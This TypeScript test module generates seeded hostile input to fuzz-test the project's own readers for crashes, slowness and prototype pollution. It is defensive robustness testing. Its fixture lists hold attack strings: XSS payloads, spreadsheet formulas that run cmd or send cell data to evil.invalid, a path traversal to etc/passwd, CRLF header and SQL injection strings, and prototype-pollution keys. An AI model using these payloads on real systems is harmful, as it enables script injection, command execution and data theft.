import { expect } from 'vitest';
import { random } from './content';

/**
 * Input that means harm or nonsense: a list by hand of what is known to have broken readers elsewhere, and a generator that joins and
 * twists it. Every run makes the same inputs from the same seed, so a failure can be had again.
 */

/**
 * How long one input may keep a reader of ours, in milliseconds of the processor, so that a busy machine changes nothing: a bound that only
 * a hang or a quadratic search comes near.
 */
export const longestWait = 1000;

/** Script that would run if text became markup, code or an address. Each calls `__hurt`, which browser tests watch. */
export const scripts = [
  '<script>__hurt(1)</script>',
  '"><script>__hurt(1)</script>',
  '</script><script>__hurt(1)</script>',
  '</title><script>__hurt(1)</script>',
  '</textarea><img src=x onerror=__hurt(1)>',
  '<img src=x onerror=__hurt(1)>',
  '<svg onload=__hurt(1)>',
  '<svg><script href="data:text/javascript,__hurt(1)"/></svg>',
  '<svg><animate onbegin=__hurt(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__hurt(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=__hurt(1)>">',
  '<form><button formaction=javascript:__hurt(1)>x',
  '<iframe srcdoc="<script>parent.__hurt(1)</script>">',
  '<a href="javascript:__hurt(1)">x</a>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=javascript:__hurt(1)">',
  '<details open ontoggle=__hurt(1)>',
  '<x onclick=__hurt(1) autofocus onfocus=__hurt(1) tabindex=1>',
  'javascript:__hurt(1)',
  'JaVaScRiPt:__hurt(1)',
  'java\tscript:__hurt(1)',
  'data:text/html,<script>__hurt(1)</script>',
  "';__hurt(1);//",
  '"-__hurt(1)-"',
  '`-${__hurt(1)}-`',
  '${__hurt(1)}',
  '{{constructor.constructor("__hurt(1)")()}}',
  '{given}{used}{input}{n}{constructor}',
  "$& $1 $` $' $$ $<x>",
  '<!--><script>__hurt(1)</script>',
  '&lt;script&gt;__hurt(1)&lt;/script&gt;',
  '&#60;img src=x onerror=__hurt(1)&#62;',
  '\\u003cscript\\u003e__hurt(1)\\u003c/script\\u003e',
  '＜script＞__hurt(1)＜/script＞',
  '%3Cscript%3E__hurt(1)%3C/script%3E',
  '%253Cscript%253E',
] as const;

/** What a spreadsheet would run (OWASP, CSV injection; ASVS 1.2.10). */
export const formulas = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.invalid?x="&A1,"click")',
  '=IMPORTXML("https://evil.invalid","//a")',
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＠SUM(A1)',
  'a;=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a;"=1+1',
  'a\r\n@SUM(1)',
] as const;

/** Numbers as programs, other scripts and mistakes write them. */
export const numbers = [
  '1e309',
  '-1e309',
  '1e308',
  '1e-400',
  '5e-324',
  '-0',
  '0',
  '+0',
  'NaN',
  '-NaN',
  'Infinity',
  '-Infinity',
  '∞',
  '0x1F',
  '0b11',
  '0o17',
  '1_000',
  '1n',
  '1,5',
  '1.5.5',
  '.',
  '-',
  '+',
  'e',
  '1e',
  '1e+',
  '--1',
  '٣',
  '１２',
  '१२',
  '三',
  '½',
  '²',
  'Ⅻ',
  '1\u200b2',
  '\u2212' + '5',
  ' 7 ',
  '00007',
  '2024.5',
  '-40',
  '1e3',
  '9007199254740993',
  '0.1e-7',
  '9'.repeat(400),
  `0.${'0'.repeat(400)}1`,
  `-${'9'.repeat(309)}.${'9'.repeat(50)}`,
] as const;

/** Letters that turn, hide, pile up or are none. */
const letters = [
  '\0',
  '\u0001\u001b[31m',
  '\ufeff',
  '\ufffe',
  '\ud800',
  '\udc00\ud800',
  'a\ud83d',
  '\u202egnp.exe',
  '\u2066\u2067\u2068',
  '\u200b\u200d\u2060',
  `Z${'\u0300\u0301\u0489'.repeat(60)}`,
  '👩‍👩‍👧‍👦'.repeat(12),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'ﷺ'.repeat(20),
  'İıſẞß',
  '\u2028\u2029',
  '𠮷野家',
  'ＫＩＴＥ４７',
  'ک\u200cی',
  '\u{e0001}\u{e0041}',
] as const;

/** Names that every object of JavaScript has. */
const inherited = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'constructor.prototype.hurt',
  '__proto__[hurt]',
  'constructor[prototype][hurt]',
] as const;

/** Broken and doubled encodings of an address, to stand in it as they are. */
const encodings = [
  '%',
  '%%',
  '%0',
  '%zz',
  '%00',
  '%E0%A4%A',
  '%C0%AF',
  '%ED%A0%80',
  '%F8%88%80%80%80',
  '%FF%FE',
  '%25%32%35',
  '%u0041',
  '%0d%0aSet-Cookie:x=1',
  '+++',
  '..%2f..%2fetc%2fpasswd',
  '\\..\\..',
  '//evil.invalid/',
  '[]',
  '[0]',
  '[object Object]',
  'null',
  'undefined',
  'true',
  "' OR 1=1 --",
] as const;

/** A hundred thousand characters and more of one kind or another: what makes a careless search of text take minutes. */
export const floods = [
  'a'.repeat(100_000),
  ' '.repeat(100_000) + 'x',
  '\t'.repeat(100_000),
  '"'.repeat(100_001),
  ','.repeat(100_000),
  '@'.repeat(100_000) + ' x',
  '('.repeat(100_000),
  '9'.repeat(100_000),
  '<'.repeat(100_000),
  '&amp;'.repeat(20_000),
  'ABCD '.repeat(20_000),
  'ABCD-1234 '.repeat(10_000),
  'a1'.repeat(50_000),
  '余热'.repeat(50_000),
  '\u0300'.repeat(100_000),
  '\n'.repeat(100_000),
  `${'7K3F-9QWX-2M4T\n'.repeat(6_667)}`,
  '['.repeat(100_000),
  '{"a":'.repeat(20_000),
  '{x}'.repeat(33_334),
  '-'.repeat(100_000),
  ':=>('.repeat(25_000) + 'x',
] as const;

/** All that is short. */
export const nasties: readonly string[] = [
  '',
  ...scripts,
  ...formulas,
  ...numbers,
  ...letters,
  ...inherited,
  ...encodings,
];

/** A source of hostile input that is the same at every run. */
export function hostile(seed: number) {
  const next = random(seed);
  const below = (n: number): number => Math.floor(next() * n);
  const pick = <T>(list: readonly T[]): T => list[below(list.length)]!;
  const many = <T>(most: number, make: () => T): T[] => Array.from({ length: 1 + below(most) }, make);

  /** One of the list, or several joined, cut, doubled or turned round. */
  const text = (): string => {
    const one = pick(nasties);
    switch (below(8)) {
      case 0:
        return one + pick(nasties);
      case 1:
        return one.slice(below(one.length), one.length);
      case 2:
        return [...one].reverse().join('');
      case 3:
        return one.repeat(1 + below(20));
      case 4:
        return many(12, () => String.fromCharCode(below(0x10000))).join('');
      default:
        return one;
    }
  };

  /**
   * A query string of an address.
   *
   * @param names those that the reader knows
   * @param values some that the reader takes
   */
  const query = (names: readonly string[], values: readonly string[]): string => {
    const name = (): string => (next() < 0.7 ? pick(names) : text());
    const value = (): string => (next() < 0.25 ? pick(values) : text());
    // Half is encoded as a form would, half stands there as somebody typed it.
    const written = (part: string): string =>
      next() < 0.5 ? new URLSearchParams([['', part]]).toString().slice(1) : part.replace(/[&#]/g, '');
    const pair = (): string =>
      `${written(name())}${next() < 0.1 ? pick(['[]', '[0]', '%5B%5D']) : ''}=${written(value())}`;
    const pairs = many(8, pair);
    if (next() < 0.1) pairs.push(...Array<string>(1 + below(40)).fill(pair()));
    return `${pick(['?', '?', '?', '?&', '?=&', '??'])}${pairs.join(pick(['&', '&', '&', '&&', ';']))}`;
  };

  /** A value as JSON can hold it, of the wrong kind more often than not. */
  const value = (depth = 3): unknown => {
    switch (below(depth > 0 ? 9 : 6)) {
      case 0:
        return null;
      case 1:
        return pick([0, -1, 1e308, 5e-324, 2 ** 53, 0.5]);
      case 2:
        return next() < 0.5;
      case 3:
      case 4:
      case 5:
        return text();
      case 6:
        return many(5, () => value(depth - 1));
      default:
        return Object.fromEntries(many(5, () => [next() < 0.5 ? pick(inherited) : text(), value(depth - 1)]));
    }
  };

  /** A value with some of its parts replaced, left out or added, wherever they lie. */
  const spoilt = (sound: unknown, share = 0.15): unknown => {
    if (next() < share) return value();
    if (Array.isArray(sound)) return sound.filter(() => next() > share / 2).map((one) => spoilt(one, share));
    if (typeof sound !== 'object' || sound === null) return sound;
    const entries = Object.entries(sound)
      .filter(() => next() > share / 2)
      .map(([name, one]): [string, unknown] => [name, spoilt(one, share)]);
    if (next() < share) entries.push([pick(inherited), value()]);
    return Object.fromEntries(entries);
  };

  /** JSON text: broken off, doubled, with a name of every object in it. */
  const json = (sound: unknown): string => {
    const written = JSON.stringify(spoilt(sound)) ?? '';
    switch (below(8)) {
      case 0:
        return written.slice(0, below(written.length + 1));
      case 1:
        return written + written;
      case 2:
        return written.replace('{', `{"__proto__":{"hurt":1},`);
      case 3:
        return `${'['.repeat(5000)}${written}${']'.repeat(5000)}`;
      default:
        return written;
    }
  };

  /**
   * A table as CSV, not as it should be: quotes left open, ends of lines mixed, rows too short and too long.
   *
   * @param columns names that the reader looks for
   */
  const csv = (columns: readonly string[]): string => {
    const cut = pick([',', ',', ';', '\t']);
    const end = () => pick(['\n', '\r\n', '\r', '\n\n']);
    const cell = (): string => {
      const one = next() < 0.5 ? pick(['1', '0.5', '12', '3.25']) : text();
      return next() < 0.2 ? `"${one}` : next() < 0.5 ? `"${one.replaceAll('"', '""')}"` : one;
    };
    const names = columns.filter(() => next() > 0.08);
    const head = next() < 0.9 ? names.map((one) => (next() < 0.95 ? one : text())) : many(6, text);
    const wide = next() < 0.02 ? 10_000 : head.length;
    const row = (): string => {
      const width = next() < 0.85 ? wide : below(2 * wide + 1);
      return Array.from({ length: width }, cell).join(cut);
    };
    return [
      next() < 0.2 ? '\ufeff' : '',
      head.join(cut),
      ...many(6, () => end() + row()),
      next() < 0.5 ? end() : '',
    ].join('');
  };

  return { next, below, pick, many, text, query, value, spoilt, json, csv };
}

/** Milliseconds of the processor since the call. */
export function stopwatch(): () => number {
  const start = process.cpuUsage();
  return () => {
    const { user, system } = process.cpuUsage(start);
    return (user + system) / 1000;
  };
}

/** Runs a reader on one input: it throws nothing, is done in time, and leaves the objects of JavaScript as they were. */
export function harmless<Result>(input: string, read: () => Result): Result {
  const shown = JSON.stringify(input.length > 200 ? `${input.slice(0, 200)}… (${input.length})` : input);
  const took = stopwatch();
  let result: Result;
  try {
    result = read();
  } catch (error) {
    throw new Error(`${shown} was not survived`, { cause: error });
  }
  if (took() > longestWait) throw new Error(`${shown} took ${Math.round(took())} ms`);
  if ('hurt' in {} || Object.keys(Object.prototype).length > 0) throw new Error(`${shown} changed every object`);
  return result;
}

/** What no reader may ever be shown for a number or a word. */
export const nonsense = /\bNaN\b|\bInfinity\b|∞|非数值|\bundefined\b|\[object |function /;

/** Text that is shown holds none of the words of a program, as far as they are not those of the input. */
export function expectSense(shown: string, input: string): void {
  if (nonsense.test(shown)) expect(shown, JSON.stringify(input.slice(0, 300))).not.toMatch(nonsense);
}
